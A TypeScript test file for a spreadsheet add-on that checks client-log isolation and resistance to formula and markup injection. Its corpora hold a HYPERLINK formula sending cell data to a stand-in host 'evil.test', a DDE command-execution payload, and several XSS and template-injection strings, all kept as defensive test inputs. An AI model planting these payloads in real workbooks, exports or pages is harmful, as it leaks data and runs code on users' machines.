/**
 * §4 Injection. Three corpora: client names that are easy to confuse (prefixes, case,
 * spaces, quotes), text that a spreadsheet would run as a formula (=, +, -, @, tab and CR
 * prefixes, DDE), and markup that a browser would run. The first two go through the
 * client's prepaid log file and its CSV here; the markup goes through every sidebar panel
 * in sidebar-checks.ts. A client's file must hold its own rows only, user text must
 * stay the same text and never become a formula, and nothing of the agency's workbook
 * may reach the client.
 */
import type { Addon } from '../addon';
import { readRows } from '../../emulator/sheet-rows';
import { addClients, addEntries, addonWithSheets } from '../workbook';
import { formulasIn, logTab, openClientFile, parseCsv } from '../client-log';
import { verdict, type CaseResult } from './cases';

/** Names a careless match would mix up; as typed in Credits ("ACME " is read back trimmed). */
export const CLIENT_NAMES = [
  'Acme',
  'Acme Labs',
  'acme',
  'ACME ',
  'Acme  Labs',
  'Acme Labs Inc',
  'O"Brien',
  "Bob's Burgers",
  'Acme "Labs"',
  'Ac.me',
  'Acme*',
  '(Acme)',
];

/** Text Sheets, Excel or LibreOffice would evaluate when it starts a cell or a CSV field. */
export const FORMULA_CORPUS = [
  '=IMPORTRANGE("https://docs.google.com/spreadsheets/d/abc","A1")',
  '=HYPERLINK("https://evil.test/?leak="&A1,"click")',
  '=IMAGE("https://evil.test/pixel.png")',
  '=cmd|" /C calc"!A0',
  '+1',
  '+SUM(1,2)',
  '-1+2',
  '-2',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  "'quoted",
  '007',
  '2026-01-05',
  'TRUE',
  '1e5',
  '50%',
];

/** Markup and template syntax a page would run or expand if it used innerHTML or a template engine. */
export const HTML_CORPUS = [
  '<img src=x onerror="window.__pwned=1" data-pwn>',
  '<script data-pwn>window.__pwned=1</script>',
  '"><svg data-pwn onload="window.__pwned=1">',
  '\'><iframe data-pwn src="javascript:window.__pwned=1"></iframe>',
  '</option></select><b data-pwn>bold</b>',
  '<a data-pwn href="javascript:window.__pwned=1">link</a>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection probe, meant as plain text
  '{{7*7}} ${7*7} <%= 7*7 %>',
  '&lt;b&gt;not bold&lt;/b&gt;',
];

/** Typed so the cell holds exactly the text (as a person would, with a leading apostrophe). */
const typed = (text: string) => `'${text}`;

function isolationWorkbook(): { addon: Addon; names: string[] } {
  const addon = addonWithSheets();
  addClients(
    addon,
    CLIENT_NAMES.map((Client) => ({ Client: typed(Client) })),
  );
  const names = CLIENT_NAMES.map((n) => n.trim());
  names.forEach((name, i) => addon.server.addCredits(name, 10 + i, `top-up marker-${i}`));
  addEntries(
    addon,
    names.map((name, i) => ({ 'Entry ID': `E-${i}`, Client: typed(name), Hours: 1 + i / 4, Description: `work marker-${i}` })),
  );
  addon.server.authorizeEntries(names.map((_, i) => `E-${i}`));
  return { addon, names };
}

/** Each client's file holds exactly its own rows, no other client's marker, and nothing of the agency's workbook. */
export function isolationCases(): CaseResult[] {
  const { addon, names } = isolationWorkbook();
  const agency = addon.emu.spreadsheet;
  return names.map((name, i) => {
    const broken: string[] = [];
    const { url } = addon.server.exportPrepaidLog(name);
    const own = readRows(agency, 'Prepaid log')
      .filter((r) => r.Client === name)
      .map((r) => r.Description);
    const shown = logTab(addon, url)
      .map((r) => r.Description)
      .filter((d) => d !== '');
    if (JSON.stringify(shown) !== JSON.stringify(own)) broken.push(`its log tab shows ${JSON.stringify(shown)}, its rows are ${JSON.stringify(own)}`);
    const everything = JSON.stringify(addon.emu.snapshot(openClientFile(addon, url)));
    for (const j of names.keys()) if (j !== i && new RegExp(`marker-${j}\\b`).test(everything)) broken.push(`it shows marker-${j} of ${names[j]}`);
    if (everything.includes(agency.getId()) || everything.includes(agency.getUrl())) broken.push("it holds the agency workbook's ID or URL");
    return verdict('injection', 'client-log isolation', `client "${name}" sees only its own rows`, broken);
  });
}

/** Each formula-like text, as a description, a person, a reason and a client name, stays text in the client's file and is guarded in its CSV. */
export function formulaCases(): CaseResult[] {
  const addon = addonWithSheets();
  addon.server.saveSettings({ clientLogPerson: 'email' });
  const client = '=Evil+Co';
  addClients(addon, [{ Client: typed(client) }]);
  addon.server.addCredits(client, 100, 'Initial block');
  addEntries(
    addon,
    FORMULA_CORPUS.map((text, i) => ({ 'Entry ID': `E-${i}`, Client: typed(client), Hours: 1, Description: typed(text), Person: typed(text) })),
  );
  addon.server.authorizeEntries(FORMULA_CORPUS.map((_, i) => `E-${i}`));
  FORMULA_CORPUS.forEach((text) => addon.server.adjustCredits(client, 0.25, text));
  const { url, csv } = addon.server.exportPrepaidLog(client, { csv: true });
  const rows = logTab(addon, url);
  const formulas = formulasIn(addon, url);
  const [header, ...lines] = parseCsv(csv ?? '');
  const csvCells = lines.flat();
  return FORMULA_CORPUS.map((raw) => {
    // Time entries are read trimmed, so a tab, CR or space before "=" does not reach the log.
    const text = raw.trim();
    const broken: string[] = [];
    const asDescription = rows.filter((r) => r.Description === text).length;
    const expected = 2 * FORMULA_CORPUS.filter((t) => t.trim() === text).length;
    if (asDescription !== expected)
      broken.push(`appears ${asDescription} times as a description in the client's file, not ${expected} (a deduction and an adjustment each)`);
    if (!rows.some((r) => r.Person === text)) broken.push("does not appear as the person in the client's file");
    if (formulas.length) broken.push(`the client's file has formulas: ${formulas.join('; ')}`);
    if (!header?.includes('Description')) broken.push('the CSV has no Description column');
    const unguarded = csvCells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-\d+(\.\d+)?$/.test(c));
    if (unguarded.length) broken.push(`CSV fields a spreadsheet would run: ${JSON.stringify(unguarded)}`);
    return verdict('injection', 'formula text', `formula text ${JSON.stringify(raw)} stays text`, broken);
  });
}
